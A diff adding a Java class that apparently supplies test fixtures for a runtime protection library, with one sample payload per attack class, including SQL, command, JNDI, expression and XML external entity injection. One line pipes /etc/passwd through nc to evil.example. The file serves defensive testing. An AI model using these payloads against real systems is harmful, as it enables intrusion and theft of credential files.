@@ -1,0 +1,34 @@
+package io.github.raspspring.ways;
+
+import java.util.Map;
+import java.util.TreeMap;
+
+/**
+ * One attack of each class that a value can be, and values that are like them and
+ * innocent.
+ */
+final class Attacks {
+
+	private Attacks() {
+	}
+
+	static Map<String, String> byClass() {
+		Map<String, String> attacks = new TreeMap<>();
+		attacks.put("sql-injection", "x' union select password from users where 'a'='a");
+		attacks.put("command-injection", "x; cat /etc/passwd | nc evil.example 99");
+		attacks.put("expression-injection", "${T(java.lang.Runtime).getRuntime().exec('id')}");
+		attacks.put("cross-site-scripting", "<img src=x onerror=alert(1)>");
+		attacks.put("path-traversal", "../../../../etc/passwd");
+		attacks.put("ssrf", "http://169.254.169.254/latest/meta-data/");
+		attacks.put("jndi-injection", "${jndi:ldap://evil.example/a}");
+		attacks.put("server-side-include", "<!--#exec cmd=\"cat /etc/passwd\" -->");
+		attacks.put("nosql-injection", "' || this.password.match(/^a/) || 'a'=='b");
+		attacks.put("ldap-injection", "*)(uid=*))(|(uid=*");
+		attacks.put("xpath-injection", "x'] | //user/password | //x['a'='a");
+		attacks.put("deserialization", "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwACRgAKbG9hZEZhY3RvckkACXRocmVzaG9sZA==");
+		attacks.put("xml-external-entity",
+				"<!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/passwd\">]><a>&b;</a>");
+		return attacks;
+	}
+
+}
